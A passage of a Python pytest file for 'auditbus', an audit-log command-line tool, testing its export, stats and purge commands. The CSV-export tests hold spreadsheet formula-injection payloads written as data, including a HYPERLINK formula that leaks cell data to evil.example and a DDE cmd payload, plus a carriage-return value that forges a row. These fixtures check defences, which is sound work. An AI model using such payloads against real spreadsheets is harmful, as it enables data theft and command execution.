        [sys.executable, "-c", _APPEND_UNTIL_STOPPED, str(path), str(stop)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert appender.stdout is not None
        assert appender.stdout.readline() == "writing\n"
        yield
    finally:
        stop.touch()
        appender.communicate(timeout=60)


@pytest.mark.parametrize("command", [["export"], ["query", "--limit", "0", "--asc", "--json"]])
def test_reading_every_row_holds_the_rows_there_when_it_began(tmp_path: Path, command: list[str]) -> None:
    """A writer appending as fast as the rows are read must not keep the read running (before, it had
    not ended after two minutes: `run` times out)."""
    path = tmp_path / "busy.db"
    _many_rows(path, 50_000)
    with _appending(path):
        result = run(*command, "--db", str(path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    ids = [row["id"] for row in jsonl(result.stdout)]
    last = max(ids)
    with AuditService(str(path), read_only=True) as service:
        there = [entry.id for entry in service.iter_entries(order="asc", after_id=ids[0] - 1) if entry.id <= last]
    # Every row up to the last one read, in order, none twice: one consistent stretch of the trail.
    assert ids == there


def test_export_csv_to_a_file_with_filters(trail: Path) -> None:
    target = trail.parent / "out" / "bob.csv"
    target.parent.mkdir()
    result = run(
        "export", "--format", "csv", "--user", "bob", "--output", str(target), "--db", str(trail), cwd=trail.parent
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout == ""
    assert "exported 2 rows" in result.stderr
    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["event_type"] for row in rows] == ["plan_cancelled", "auth_failure"]
    assert sorted(p.name for p in target.parent.iterdir()) == ["bob.csv"]  # no partial file left behind


def run_bytes(*args: str, cwd: Path) -> subprocess.CompletedProcess[bytes]:
    """`run` without text=True: universal newlines would turn a stored CR into a line break."""
    return subprocess.run(
        [sys.executable, "-m", "auditbus", *args],
        check=False,
        cwd=cwd,
        env=clean_env(),
        capture_output=True,
        timeout=120,
    )


def test_a_carriage_return_in_a_stored_value_cannot_forge_a_csv_row(tmp_path: Path) -> None:
    """CSV readers (Python's, spreadsheets) end a row at a bare CR: a cell holding one must be quoted."""
    path = tmp_path / "cr.db"
    # The cells after the CR read as a row of their own: id 99, a time, auth_success by root.
    event = DomainEvent(
        event_type=EventType.AUTH_FAILURE,
        user_identity="mallory\r99",
        actor_name="2026-01-01T00:00:00Z",
        plan_id="auth_success",
        project_name="root",
        details={"note": "a\rb"},
    )
    prepare(path, [event])
    for command in (["export", "--format", "csv"], ["query", "--csv"]):
        result = run_bytes(*command, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        rows = list(csv.DictReader(io.StringIO(result.stdout.decode(), newline="")))
        assert [row["user_identity"] for row in rows] == ["mallory\r99"]
        assert rows[0]["project_name"] == "root"
        assert json.loads(rows[0]["details"])["note"] == "a\rb"


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted_reversibly(tmp_path: Path) -> None:
    """OWASP CSV injection: a stored value such as `=HYPERLINK(...)` must reach the auditor's spreadsheet as text.

    Such a cell (and one already starting with a quote) gets one leading `'`; removing it gives the stored value.
    """
    path = tmp_path / "formulas.db"
    prepare(
        path,
        [
            DomainEvent(
                event_type=EventType.AUTH_FAILURE,
                user_identity='=HYPERLINK("http://evil.example/?"&A1,"open")',
                actor_name="+1+cmd|' /C calc'!A0",
                plan_id="-2+3",
                project_name="@SUM(A1:A9)",
                session_id="\t=1+1",
                details={"note": "fine"},
            ),
            DomainEvent(
                event_type=EventType.AUTH_FAILURE, user_identity="\r=1+1", actor_name="'quoted", plan_id="\x00=1+1"
            ),
        ],
    )
    with sqlite3.connect(path) as connection:  # another writer: details that are a bare JSON number
        connection.execute(
            "INSERT INTO audit_log (timestamp, event_type, outcome, details) VALUES (?, ?, ?, ?)",
            (NOW.isoformat(), "auth_failure", "=2*3", "-1"),
        )
    connection.close()
    stored = jsonl(run("export", "--db", str(path), cwd=tmp_path).stdout)
    for command in (["export", "--format", "csv"], ["query", "--csv", "--asc"]):
        result = run_bytes(*command, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        rows = list(csv.DictReader(io.StringIO(result.stdout.decode(), newline="")))
        assert len(rows) == len(stored) == 3
        for row, expected in zip(rows, stored, strict=True):
            for name, cell in row.items():
                assert not cell.startswith(FORMULA_STARTS), (name, cell)
                value = cell[1:] if cell.startswith("'") else cell
                if name in ("user_identity", "actor_name", "plan_id", "project_name", "session_id", "outcome"):
                    assert value == (expected[name] or ""), name
        assert json.loads(rows[2]["details"][1:]) == -1
        assert rows[1]["actor_name"] == "''quoted"


def test_every_csv_cell_gives_back_the_stored_value(tmp_path: Path) -> None:
    """Each CSV cell, its leading `'` taken off, is the JSON Lines value: text as is, JSON cells parsed."""
    path = tmp_path / "exact.db"
    prepare(
        path,
        [
            DomainEvent(
                event_type=EventType.AUTH_FAILURE,
                user_identity="=1+1",
                actor_name="two\nlines",
                plan_id='a,b;"c"',
                details={"k": "\r\n=1", "n": None},
            )
        ],
    )
    with sqlite3.connect(path) as connection:  # another writer: details that are JSON null, a bare string
        for details in ("null", '"=1+2"', "[]"):
            connection.execute(
                "INSERT INTO audit_log (timestamp, event_type, details) VALUES (?, ?, ?)",
                (NOW.isoformat(), "auth_failure", details),
            )
    connection.close()
    stored = jsonl(run("export", "--type", "auth_failure", "--db", str(path), cwd=tmp_path).stdout)
    assert [row["details"] for row in stored[1:]] == [None, "=1+2", []]
    result = run_bytes("export", "--format", "csv", "--type", "auth_failure", "--db", str(path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout.decode(), newline="")))
    assert len(rows) == len(stored) == 4
    for row, expected in zip(rows, stored, strict=True):
        for name, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
            value = cell[1:] if cell.startswith("'") else cell
            if name in ("details", "source"):
                assert (json.loads(value) if value else None) == expected[name], name
            elif name in expected and not name.endswith("_at") and name != "timestamp":
                assert value == ("" if expected[name] is None else str(expected[name])), name


@pytest.mark.parametrize("flag", ["-o", "--output"])
def test_export_to_a_dash_writes_to_standard_output_not_to_a_file_named_dash(trail: Path, flag: str) -> None:
    result = run("export", flag, "-", "--db", str(trail), cwd=trail.parent)
    assert result.returncode == 0, result.stderr
    assert len(jsonl(result.stdout)) == 5
    assert not (trail.parent / "-").exists()
    # A file of that name is still reachable as a path.
    named = run("export", flag, "./-", "--db", str(trail), cwd=trail.parent)
    assert named.returncode == 0, named.stderr
    assert len(jsonl((trail.parent / "-").read_text(encoding="utf-8"))) == 5


def test_export_into_a_missing_directory_is_one_error_line(trail: Path) -> None:
    result = run(
        "export", "--output", str(trail.parent / "no" / "such" / "dir.jsonl"), "--db", str(trail), cwd=trail.parent
    )
    assert_one_error_line(result, 1, "cannot write")


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", "-journal"])
def test_export_never_writes_over_the_database_or_its_companions(trail: Path, suffix: str) -> None:
    target = trail.parent / (trail.name + suffix)
    existed = target.exists()
    before = target.read_bytes() if existed else None
    for output in (str(target), f"./{target.name}"):
        result = run("--db", str(trail), "export", "-o", output, cwd=trail.parent)
        assert_one_error_line(result, 2, output, "audit database")
        assert (target.read_bytes() if target.exists() else None) == before
    assert run("verify", "--db", str(trail), cwd=trail.parent).returncode == 0


def test_export_never_writes_over_the_database_through_a_link(trail: Path) -> None:
    link = trail.parent / "innocent.jsonl"
    link.symlink_to(trail)
    hard = trail.parent / "hard.jsonl"
    os.link(trail, hard)
    db_link = trail.parent / "alias.db"
    db_link.symlink_to(trail)
    before = trail.read_bytes()
    for db, output in ((trail, link), (trail, hard), (db_link, trail), (db_link, Path(str(trail) + "-wal"))):
        result = run("export", "--db", str(db), "-o", str(output), cwd=trail.parent)
        assert_one_error_line(result, 2, str(output), "audit database")
    assert trail.read_bytes() == before
    assert link.is_symlink()


def test_export_through_a_symlink_writes_the_file_it_points_to(trail: Path, tmp_path: Path) -> None:
    kept = tmp_path / "evidence"
    kept.mkdir()
    real = kept / "rows.jsonl"
    real.write_text("older export\n", encoding="utf-8")
    link = tmp_path / "latest.jsonl"
    link.symlink_to(real)
    result = run("export", "-o", str(link), "--db", str(trail), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert link.is_symlink()
    assert link.resolve() == real
    assert len(jsonl(real.read_text(encoding="utf-8"))) == 5
    assert sorted(path.name for path in kept.iterdir()) == ["rows.jsonl"]


def test_export_into_a_fifo_writes_into_it_and_leaves_it_a_fifo(trail: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "rows.fifo"
    os.mkfifo(fifo)
    reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE, text=True)
    try:
        result = run("export", "-o", str(fifo), "--db", str(trail), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert stat.S_ISFIFO(fifo.stat().st_mode)
        out, _ = reader.communicate(timeout=60)
    finally:
        if reader.poll() is None:
            reader.kill()
            reader.communicate()
    assert len(jsonl(out)) == 5


@pytest.mark.parametrize("into", ["stdout", "fifo", "query"])
def test_an_export_that_a_purge_overtakes_fails_instead_of_passing_for_complete(tmp_path: Path, into: str) -> None:
    """The rows a purge deleted before the export (or `query --limit 0`) read them were left out, and
    it ended with status 0 (`exported 1000 rows`) as if the trail had held no more."""
    path = tmp_path / "busy.db"
    _many_rows(path, 5_000)
    fifo = tmp_path / "rows.fifo"
    output = ["-o", str(fifo)] if into == "fifo" else []
    if into == "fifo":
        os.mkfifo(fifo)
    command = ["query", "--limit", "0", "--asc", "--json"] if into == "query" else ["export", *output]
    export = subprocess.Popen(
        [sys.executable, "-m", "auditbus", *command, "--db", str(path)],
        stdout=subprocess.DEVNULL if into == "fifo" else subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=clean_env(),
    )
    try:
        assert export.stderr is not None
        rows = fifo.open(encoding="utf-8") if into == "fifo" else export.stdout
        assert rows is not None
        with rows:
            # The export has read its first page and waits for its reader: purge everything now.
            first = rows.readline()
            purge = run("purge", "--before", datetime.now(UTC).isoformat(), "--yes", "--db", str(path), cwd=tmp_path)
            assert purge.returncode == 0, purge.stderr
            written = 1 + len(rows.readlines())
        status, stderr = export.wait(timeout=120), export.stderr.read()
    finally:
        if export.poll() is None:
            export.kill()
            export.wait()
        if export.stderr is not None:
            export.stderr.close()
    assert json.loads(first)["details"] == {"n": 0}
    assert written < 5_000
    shown = {"fifo": f"{fifo} holds an incomplete export", "stdout": "standard output holds an incomplete export"}
    assert_one_error_line(
        subprocess.CompletedProcess([], status, "", stderr),
        1,
        f"{5_000 - written} of the 5000 rows that matched when the command began were deleted (purged)",
        shown.get(into, "standard output holds an incomplete answer"),
    )


def test_export_into_an_inherited_descriptor_as_process_substitution_gives(trail: Path) -> None:
    """`auditbus export -o >(gzip > rows.gz)` names a pipe as /dev/fd/N."""
    read_end, write_end = os.pipe()
    try:
        child = subprocess.Popen(
            [sys.executable, "-m", "auditbus", "export", "-o", f"/dev/fd/{write_end}", "--db", str(trail)],
            cwd=trail.parent,
            env=clean_env(),
            stdin=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            pass_fds=(write_end,),
            text=True,
        )
        os.close(write_end)
        write_end = -1
        with os.fdopen(read_end, encoding="utf-8") as rows:
            read_end = -1
            out = rows.read()
        _, err = child.communicate(timeout=60)
    finally:
        for fd in (read_end, write_end):
            if fd != -1:
                os.close(fd)
    assert child.returncode == 0, err
    assert len(jsonl(out)) == 5


_TRACE_DURABILITY = """
import os, sys
from auditbus import cli
calls = []
real_fsync, real_replace = os.fsync, os.replace
def fsync(fd):
    calls.append(("fsync", os.readlink(f"/proc/self/fd/{fd}")))
    real_fsync(fd)
def replace(source, destination):
    calls.append(("replace", os.path.abspath(source), os.path.abspath(destination)))
    real_replace(source, destination)
os.fsync, os.replace = fsync, replace
status = cli.main(sys.argv[1:])
print(repr(calls))
sys.exit(status)
"""


def test_export_to_a_file_is_on_disk_before_it_takes_the_name(trail: Path, tmp_path: Path) -> None:
    """Renamed before its data reach the disk, FILE may be empty or cut after a power loss."""
    out = tmp_path / "rows.jsonl"
    result = subprocess.run(
        [sys.executable, "-c", _TRACE_DURABILITY, "export", "-o", str(out), "--db", str(trail)],
        check=False,
        cwd=tmp_path,
        env=clean_env(),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    calls = ast.literal_eval(result.stdout.splitlines()[-1])
    replaced = [call for call in calls if call[0] == "replace" and call[2] == str(out)]
    assert len(replaced) == 1, calls
    at = calls.index(replaced[0])
    assert ("fsync", replaced[0][1]) in calls[:at], calls
    assert ("fsync", str(tmp_path)) in calls[at:], calls


def test_export_over_an_existing_file_keeps_its_permissions(trail: Path, tmp_path: Path) -> None:
    """An evidence file kept private (0600) must not become readable by others when exported again."""
    out = tmp_path / "private.jsonl"
    out.write_text("", encoding="utf-8")
    out.chmod(0o600)
    result = run("export", "-o", str(out), "--db", str(trail), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert len(jsonl(out.read_text(encoding="utf-8"))) == 5


def test_export_does_not_follow_a_link_planted_where_it_writes(
    trail: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """In a shared folder (/tmp), a link planted under the name of the file written beside FILE must not
    make the export truncate what it points to."""
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n", encoding="utf-8")
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / f".rows.jsonl.{os.getpid()}.partial").symlink_to(victim)
    assert cli.main(["export", "-o", str(shared / "rows.jsonl"), "--db", str(trail)]) == 0
    assert victim.read_text(encoding="utf-8") == "keep me\n"
    assert len(jsonl((shared / "rows.jsonl").read_text(encoding="utf-8"))) == 5
    capsys.readouterr()


def test_export_of_many_unreadable_rows_finishes(tmp_path: Path) -> None:
    """Each unreadable row is noted for the closing warning once, at constant cost: a trail whose rows
    are all unreadable (damaged, or another writer's) exports as fast as any other."""
    path = tmp_path / "damaged.db"
    with sqlite3.connect(path) as connection:
        connection.executescript(LEGACY_SCHEMA)
        connection.executemany(
            "INSERT INTO audit_log (timestamp, event_type, details) VALUES ('garbage', 'plan_applied', 'not json')",
            [()] * 150_000,
        )
    connection.close()
    result = subprocess.run(
        [sys.executable, "-m", "auditbus", "export", "--read-only", "--db", str(path)],
        check=False,
        cwd=tmp_path,
        env=clean_env(),
        capture_output=True,
        text=True,
        timeout=60,  # noting each row by a scan of those before took minutes
    )
    assert result.returncode == 0, result.stderr
    assert len(result.stdout.splitlines()) == 150_000
    assert "rows 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 and 149990 more have unreadable details" in result.stderr


def _unshare_available() -> bool:
    probe = subprocess.run(["unshare", "-r", "-m", "true"], check=False, capture_output=True)
    return probe.returncode == 0


def test_export_into_a_read_only_file_system_names_the_output(trail: Path) -> None:
    """A real read-only mount (in a private mount namespace): the error names -o, not the temporary file."""
    if shutil.which("unshare") is None or not _unshare_available():
        pytest.skip("needs unshare -r -m to mount a read-only directory")
    ro = trail.parent / "ro"
    ro.mkdir()
    script = (
        f"mount --bind {shlex.quote(str(ro))} {shlex.quote(str(ro))} && "
        f"mount -o remount,bind,ro {shlex.quote(str(ro))} && "
        f"{shlex.quote(sys.executable)} -m auditbus export -o ro/out.jsonl --db {shlex.quote(str(trail))}"
    )
    result = subprocess.run(
        ["unshare", "-r", "-m", "sh", "-c", script],
        check=False,
        cwd=trail.parent,
        env=clean_env(),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert_one_error_line(result, 1, "cannot write ro/out.jsonl: Read-only file system")
    assert ".partial" not in result.stderr
    assert list(ro.iterdir()) == []


def test_export_shows_progress_only_on_a_terminal(trail: Path, tmp_path: Path) -> None:
    master, replica = pty.openpty()
    try:
        result = subprocess.run(
            [sys.executable, "-m", "auditbus", "export", "-o", str(tmp_path / "all.jsonl"), "--db", str(trail)],
            check=False,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=replica,
            env=clean_env(),
            timeout=60,
        )
        os.close(replica)
        replica = -1
        shown = b""
        while True:
            try:
                chunk = os.read(master, 4096)
            except OSError:  # EIO once the terminal's other side is closed
                break
            if not chunk:
                break
            shown += chunk
    finally:
        if replica != -1:
            os.close(replica)
        os.close(master)
    assert result.returncode == 0
    assert b"\rexported 5/5 rows (100%)" in shown
    assert len(jsonl((tmp_path / "all.jsonl").read_text(encoding="utf-8"))) == 5


# --------------------------------------------------------------------------- stats


def test_stats_counts_the_rows_by_type(trail: Path) -> None:
    as_json = run("stats", "--json", "--db", str(trail), cwd=trail.parent)
    assert as_json.returncode == 0, as_json.stderr
    figures = json.loads(as_json.stdout)
    by_type = figures["trail"]["rows_by_type"]
    assert {name: by_type[name] for name in by_type if not name.startswith("audit_")} == {
        "session_created": 1,
        "plan_applied": 1,
        "config_changed": 1,
        "plan_cancelled": 1,
        "auth_failure": 1,
    }
    assert by_type["audit_started"] >= 1
    assert figures["trail"]["rows"] == sum(by_type.values())
    assert figures["trail"]["oldest_event"] < figures["trail"]["newest_event"]
    assert isinstance(figures["service"], dict)
    text = run("stats", "--db", str(trail), cwd=trail.parent)
    assert text.returncode == 0
    assert re.search(r"^  rows_by_type:\n(    \w+: +\d+\n)+", text.stdout, re.MULTILINE)
    assert re.search(r"^    plan_applied: +1$", text.stdout, re.MULTILINE)


def test_stats_masks_a_secret_in_the_trail_path(tmp_path: Path) -> None:
    """Before, `db_path` was printed as given, a token in a folder name included, table and --json alike."""
    token = "ghp_" + "a1B2c3D4e5" * 3 + "abcdef"
    (tmp_path / token).mkdir()
    path = tmp_path / token / "audit.db"
    prepare(path, sample_events())
    for form in ([], ["--json"]):
        result = run("stats", *form, "--db", str(path), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert token not in result.stdout + result.stderr
        assert f"{tmp_path}/***REDACTED***/audit.db" in result.stdout


def test_stats_counts_rows_of_a_type_auditbus_does_not_know(tmp_path: Path) -> None:
    # Rows another writer stored under its own type (or `AUTH_SUCCESS` in capitals) are shown by
    # query and export, yet stats left them out of `rows` and `last_id`: the trail looked smaller.
    path = tmp_path / "foreign.db"
    prepare(path, [DomainEvent(event_type=EventType.AUTH_SUCCESS, user_identity="alice")])
    with sqlite3.connect(path) as connection:
        for kind in ("custom_wipe", "AUTH_SUCCESS"):
            connection.execute(
                "INSERT INTO audit_log (timestamp, event_type, user_identity) VALUES (?, ?, ?)",
                ((NOW + timedelta(days=1)).isoformat(), kind, "mallory"),
            )
        total, last = connection.execute("SELECT count(*), max(id) FROM audit_log").fetchone()
    connection.close()
    result = run("--read-only", "stats", "--json", "--db", str(path), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    trail = json.loads(result.stdout)["trail"]
    assert (trail["rows"], trail["last_id"], trail["first_id"]) == (total, last, 1)
    assert trail["rows_by_type"]["other"] == 2
    assert sum(trail["rows_by_type"].values()) == total
    assert trail["newest_event"] == (NOW + timedelta(days=1)).isoformat().replace("+00:00", "Z")
    shown = run("--read-only", "stats", "--db", str(path), cwd=tmp_path).stdout
    assert re.search(r"^    other: +2$", shown, re.MULTILINE)


@pytest.mark.parametrize("read_only", [[], ["--read-only"]])
def test_stats_figures_agree_while_another_process_appends(tmp_path: Path, read_only: list[str]) -> None:
    """Each figure was a read of its own: rows committed between them showed up as rows of an `other`
    type and as a `rows` count that disagreed with `first_id`..`last_id` on a trail without gaps."""
    path = tmp_path / "busy.db"
    _many_rows(path, 2_000)
    with _appending(path):
        results = [run(*read_only, "stats", "--json", "--db", str(path), cwd=tmp_path) for _ in range(3)]
    for result in results:
        assert result.returncode == 0, result.stderr
        trail = json.loads(result.stdout)["trail"]
        assert "other" not in trail["rows_by_type"], trail
        assert sum(trail["rows_by_type"].values()) == trail["rows"], trail
        # Nothing was purged: ids run without a gap, so the ends and the count agree.
        assert trail["last_id"] - trail["first_id"] + 1 == trail["rows"], trail


# --------------------------------------------------------------------------- purge


def test_purge_without_yes_off_a_terminal_refuses_and_deletes_nothing(aged_trail: Path) -> None:
    before = aged_trail.read_bytes()
    result = run("purge", "--before", "1d", "--db", str(aged_trail), cwd=aged_trail.parent)
    assert_one_error_line(result, 1, "--yes")
    # Refused before the trail is opened for writing: not even the service's start and stop rows.
    assert aged_trail.read_bytes() == before
    assert count_rows(aged_trail) == 7


def test_the_services_own_warnings_are_lines_of_the_command_named_auditbus(aged_trail: Path) -> None:
    # Another process holds the write lock past the busy timeout: the writer logs that it retries.
    with write_locked(aged_trail):
        child = subprocess.Popen(
            [sys.executable, "-m", "auditbus", "purge", "--before", "200d", "--yes", "--db", str(aged_trail)],
            cwd=aged_trail.parent,
            env=clean_env(),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        assert child.stderr is not None
        line = child.stderr.readline()
    out, rest = child.communicate(timeout=120)
    assert child.returncode == 0, line + rest
    assert line.startswith("auditbus: audit service error: audit writer for "), line
    assert "retrying" in line
    assert out.startswith("purged ")


def test_purge_with_yes_deletes_older_rows_and_prints_the_count(aged_trail: Path) -> None:
    result = run("purge", "--before", "200d", "--yes", "--db", str(aged_trail), cwd=aged_trail.parent)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("purged 2 rows recorded before ")
    remaining = jsonl(run("query", "--json", "--asc", "--db", str(aged_trail), cwd=aged_trail.parent).stdout)
    assert remaining[0]["event_type"] == "session_created"
    assert len(remaining) == 5
    assert run("verify", "--db", str(aged_trail), cwd=aged_trail.parent).returncode == 0
    purges = jsonl(
        run("query", "--json", "--type", "audit_purged", "--db", str(aged_trail), cwd=aged_trail.parent).stdout
    )
    assert len(purges) == 1  # the purge itself is on the trail


def _purge_at_terminal(trail: Path, answer: bytes, before: str = "200d") -> tuple[int, str]:
    """Runs purge with a terminal on stdin/stdout/stderr; answers `answer` when asked [y/N]."""
    master, replica = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "auditbus", "purge", "--before", before, "--db", str(trail)],
        stdin=replica,
        stdout=replica,
        stderr=replica,
        env=clean_env(),
    )
    os.close(replica)
    shown = b""
    answered = False
    deadline = time.monotonic() + 60
    try:
        while True:
            assert time.monotonic() < deadline, shown
            ready, _, _ = select.select([master], [], [], 0.05)
            if ready:
                try:
                    chunk = os.read(master, 4096)
                except OSError:  # EIO: the process closed its side
                    chunk = b""
                shown += chunk
                if chunk:
                    continue
            if not answered and b"[y/N]" in shown:
                os.write(master, answer + b"\n")
                answered = True
            elif process.poll() is not None:  # exited, and nothing left to read
                break
        status = process.wait(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(master)
    return status, shown.decode(errors="replace")


def _signalled(
    args: Sequence[str], cwd: Path, started: Callable[[int], bool], signum: int
) -> tuple[int, int, str, str]:
    """`auditbus ARGS`, sent `signum` once `started(pid)`: its pid, status, stdout and stderr."""
    process = subprocess.Popen(
        [sys.executable, "-m", "auditbus", *args],
        cwd=cwd,
        env=clean_env(),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        wait_until(lambda: started(process.pid), "the command to start", 60)
        process.send_signal(signum)
        out, err = process.communicate(timeout=60)
    finally:
        if process.poll() is None:
            process.kill()
            process.communicate()
    return process.pid, process.returncode, out, err


def test_ctrl_c_during_a_purge_says_the_purge_was_carried_out(tmp_path: Path) -> None:
    """A purge handed to the writer cannot be called back: "interrupted" alone reads as nothing deleted."""
    path = tmp_path / "large.db"
    _many_rows(path, 300_000)
    # Its start row is committed right before it hands the purge over.
    _, status, out, err = _signalled(
        ["purge", "--before", "0s", "--yes", "--db", str(path)],
        tmp_path,
        lambda pid: bool(_lifecycle_rows(path, pid)),
        signal.SIGINT,
    )
    assert status == 130, err
    with AuditService(str(path), read_only=True) as service:
        left = service.count(event_type="auth_success")
        purged = service.query(event_type="audit_purged", limit=None)
    if purged:
        deleted = purged[0].details["deleted"]
        assert left == 0
        assert out.startswith(f"purged {deleted} rows recorded before ")
        assert err == "auditbus: interrupted after the purge was handed over; it was carried out\n"
    else:
        assert left == 300_000
        assert (out, err) == ("", "auditbus: interrupted\n")


def test_purge_at_a_terminal_asks_and_no_keeps_every_row(aged_trail: Path) -> None:
    status, shown = _purge_at_terminal(aged_trail, b"n")
    assert "Delete the 2 oldest audit rows, recorded before" in shown
    assert status == 1
    assert "nothing was deleted" in shown
    assert count_rows(aged_trail) == 7


@pytest.mark.parametrize("answer", [b"", b"   ", b"maybe", b"yess"], ids=["enter", "spaces", "other", "near-yes"])
def test_purge_at_a_terminal_keeps_every_row_on_enter_or_any_answer_but_yes(aged_trail: Path, answer: bytes) -> None:
    """[y/N]: no answer, or any answer but y/yes, is no."""
    status, shown = _purge_at_terminal(aged_trail, answer)
    assert "Delete the 2 oldest audit rows, recorded before" in shown
    assert status == 1
    assert "nothing was deleted" in shown
    assert count_rows(aged_trail) == 7


def test_purge_at_a_terminal_asks_for_exactly_the_rows_it_deletes(tmp_path: Path) -> None:
    """A row whose time cannot be read stops the purge, so the question counts only the rows before it."""
    path = tmp_path / "aged.db"
    legacy_rows(path, 400, 390)
    with sqlite3.connect(path) as connection:
        for stamp in ("garbage", (NOW - timedelta(days=380)).isoformat()):
            connection.execute(
                "INSERT INTO audit_log (timestamp, event_type, details) VALUES (?, 'plan_applied', '{}')", (stamp,)
            )
    connection.close()
    prepare(path, sample_events())
    status, shown = _purge_at_terminal(path, b"y")
    assert status == 0, shown
    assert "Delete the 2 oldest audit rows, recorded before" in shown
    assert "purged 2 rows" in shown


def test_purge_at_a_terminal_refuses_before_asking_when_the_rows_do_not_verify(tmp_path: Path) -> None:
    """The question would count rows the purge then refuses to delete."""
    path = tmp_path / "edited.db"
    prepare(path, sample_events())
    # The service's start row, the oldest, back-dated: edited, and older than the cut.
    with sqlite3.connect(path) as connection:
        edited = connection.execute("SELECT min(id) FROM audit_log").fetchone()[0]
        stamp = (NOW - timedelta(days=400)).isoformat()
        connection.execute("UPDATE audit_log SET timestamp = ? WHERE id = ?", (stamp, edited))
    connection.close()
    status, shown = _purge_at_terminal(path, b"y")
    assert status == 1, shown
    assert "[y/N]" not in shown
    assert f"row {edited}" in shown
    with sqlite3.connect(path) as connection:  # the oldest row is still there: nothing was deleted
        assert connection.execute("SELECT min(id) FROM audit_log").fetchone()[0] == edited
    connection.close()


def test_purge_at_a_terminal_yes_deletes(aged_trail: Path) -> None:
    status, shown = _purge_at_terminal(aged_trail, b"y")
    assert status == 0, shown
    assert "purged 2 rows" in shown
    assert count_rows(aged_trail) == 5


def test_purge_at_a_terminal_with_nothing_older_does_not_ask(trail: Path) -> None:
    """Purge removes only the oldest rows up to the first newer one: here the service's first start row."""
    status, shown = _purge_at_terminal(trail, b"y", before="1d")
    assert status == 0, shown
    assert "nothing to purge" in shown
    assert "[y/N]" not in shown
    assert count_rows(trail) == 5


# --------------------------------------------------------------------------- errors a user can cause

READ_COMMANDS = [["query"], ["tail"], ["verify"], ["export"], ["stats"], ["purge", "--before", "1d", "--yes"]]


@pytest.mark.parametrize("command", READ_COMMANDS, ids=lambda c: c[0])
def test_no_such_database_is_an_error_and_is_not_created(tmp_path: Path, command: list[str]) -> None:
    missing = tmp_path / "missing.db"
    result = run(*command, "--db", str(missing), cwd=tmp_path)
    assert_one_error_line(result, 1, "no audit database at", str(missing))
    assert not missing.exists()
    default = run(*command, cwd=tmp_path)
    assert_one_error_line(default, 1, "audit.db")
    assert list(tmp_path.iterdir()) == []


def test_a_new_trail_in_a_missing_folder_is_one_error_line_naming_the_path_once(tmp_path: Path) -> None:
    database = tmp_path / "missing-folder" / "audit.db"
    result = run("demo", "--db", str(database), cwd=tmp_path)
    assert_one_error_line(result, 1, "does not exist", str(database.parent))
    assert result.stderr.count(str(database)) == 1, result.stderr
    assert not database.parent.exists()


def test_a_damaged_database_whose_path_holds_a_quote_is_named_once(tmp_path: Path) -> None:
    # The core quotes the path it names ("x\"y.db"); before, the command took that for a
    # message without the path and named it again: cannot open audit database x"y.db: audit database "x\"y.db": ...
    damaged = tmp_path / 'x "y.db'
    damaged.write_bytes(b"SQLite format 3\x00" + b"\xff" * 200)
    result = run("stats", "--db", str(damaged), cwd=tmp_path)
    assert_one_error_line(result, 1, "not a readable SQLite database")
    assert result.stderr.count("audit database") == 1, result.stderr


@pytest.mark.parametrize("command", READ_COMMANDS, ids=lambda c: c[0])
def test_a_file_that_is_not_a_database_is_an_error(tmp_path: Path, command: list[str]) -> None:
    path = tmp_path / "notes.db"
    path.write_text("meeting notes, not a database\n" * 20)
    result = run(*command, "--db", str(path), cwd=tmp_path)
    assert_one_error_line(result, 1, str(path), "not an audit database")
    assert path.read_text() == "meeting notes, not a database\n" * 20


def test_a_corrupt_database_is_one_error_line(trail: Path) -> None:
    damaged = trail.parent / "damaged.db"
    data = bytearray(trail.read_bytes())
    data[100:] = b"\xff" * (len(data) - 100)  # keep the SQLite header, ruin every page
    damaged.write_bytes(bytes(data))
    for command in (["query"], ["verify"], ["stats"], ["export"], ["demo"]):
        result = run(*command, "--db", str(damaged), cwd=trail.parent)
        assert_one_error_line(result, 1, str(damaged))


def test_another_applications_sqlite_file_is_left_alone(tmp_path: Path) -> None:
    path = tmp_path / "app.db"
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT)")
    for command in (["query"], ["demo"]):
        result = run(*command, "--db", str(path), cwd=tmp_path)
        assert_one_error_line(result, 1, "without an audit_log table")
    with sqlite3.connect(path) as connection:
